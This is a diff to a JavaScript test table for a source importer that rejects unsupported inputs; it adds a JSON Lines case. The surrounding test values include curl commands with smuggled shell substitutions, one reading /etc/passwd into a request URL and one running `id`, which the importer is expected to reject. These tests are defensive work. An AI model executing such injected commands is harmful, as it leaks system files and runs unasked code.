@@ -75,6 +75,7 @@ describe('a source that cannot be imported', () => {
     ['other YAML', 'services: { web: { image: nginx } }', 'import/unknown-format'],
     ['a crawl file', 'version: 2\nrequest: { url: https://example.com/ }', 'import/unknown-format'],
     ['JavaScript', "new Crawler({ startUrls: ['https://example.com/'] })", 'import/javascript'],
+    ['JSON Lines', '{"url": "https://a.com/"}\n\n{"url": "https://b.com/"}\n', 'import/several-documents'],
     ['an open quote', "curl 'https://example.com/", 'import/shell-syntax'],
     ['a command inside', 'curl "https://example.com/$(cat /etc/passwd)"', 'import/shell-code'],
     ['another command inside', 'curl https://example.com/`id`', 'import/shell-code'],
